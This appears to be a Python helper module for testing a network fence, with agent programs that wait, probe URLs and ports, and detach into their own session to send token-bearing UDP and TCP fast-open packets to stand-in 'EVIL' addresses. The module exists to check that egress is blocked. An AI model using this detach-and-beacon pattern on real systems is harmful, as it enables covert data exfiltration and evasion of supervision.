# SPDX-License-Identifier: GPL-2.0-or-later
"""Programs that an agent of a test is: one that waits, one that tries what it is told, one that sends for ever."""
import json

import topo

PYTHON = "/usr/bin/python3"
WAIT = ["/bin/sh", "-c", "echo READY; exec sleep 1000"]


def resolved(name):
    """Asks for a name, so that the fence learns its addresses, and waits."""
    return [PYTHON, "-c", "import socket, time\nsocket.getaddrinfo('%s', 443)\n"
            "print('READY', flush=True)\ntime.sleep(1000)" % name]


TRY = """
import json, socket, sys, urllib.request
def one(target):
    try:
        if target.startswith("https:"):
            return urllib.request.urlopen(target, timeout=3).status
        host, port = target.split()
        socket.create_connection((host, int(port)), 2)
        return "open"
    except OSError as e:
        return str(e)
print("READY", flush=True)
for line in sys.stdin:
    print(json.dumps([one(t) for t in sys.argv[1:]]), flush=True)
"""


class Trier:
    """A fence whose agent tries the same targets whenever it is asked: https://NAME/, or "ADDRESS PORT"."""

    def __init__(self, lab, policy, *targets):
        self.h = lab.start(policy, [PYTHON, "-c", TRY, *targets])

    def ask(self, seconds=15):
        """For each target the status, "open", or what went wrong."""
        self.h.text = ""
        self.h.send("x")
        self.h.expect("\n", seconds)
        return json.loads(self.h.text)


def stream(lab, policy, to, port, tok, **kw):
    """A fence in which new connections and datagrams with the token are tried all the time."""
    return lab.start(policy, lab.attack("stream", to=to, port=port, token=tok, seconds=60, **kw))


# Sends by UDP and in SYNs for ever, in a session of its own: it lives when agentctl dies.
SENDER = """
import os, socket, sys, time
tok = sys.argv[1].encode()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    ways = ((socket.AF_INET, %r, b"u4", b"t4"), (socket.AF_INET6, %r, b"u6", b"t6"))
    udp = [(socket.socket(f, socket.SOCK_DGRAM), a, tok + u) for f, a, u, _ in ways]
    held = []  # TCP sends again what was dropped
    print("READY", flush=True)
    while True:
        for s, a, text in udp:
            try: s.sendto(text, (a, 9999))
            except OSError: pass
        for f, a, _, t in ways:
            try:
                s = socket.socket(f, socket.SOCK_STREAM)
                s.setblocking(False)
                held.append(s)
                s.sendto(tok + t, socket.MSG_FASTOPEN, (a, 9000))
            except OSError: pass
        del held[:-40]
        time.sleep(0.03)  # what one sends in a second is bounded
time.sleep(1000)
""" % (topo.EVIL4, topo.EVIL6)


def sender(tok):
    return [PYTHON, "-c", SENDER, tok]
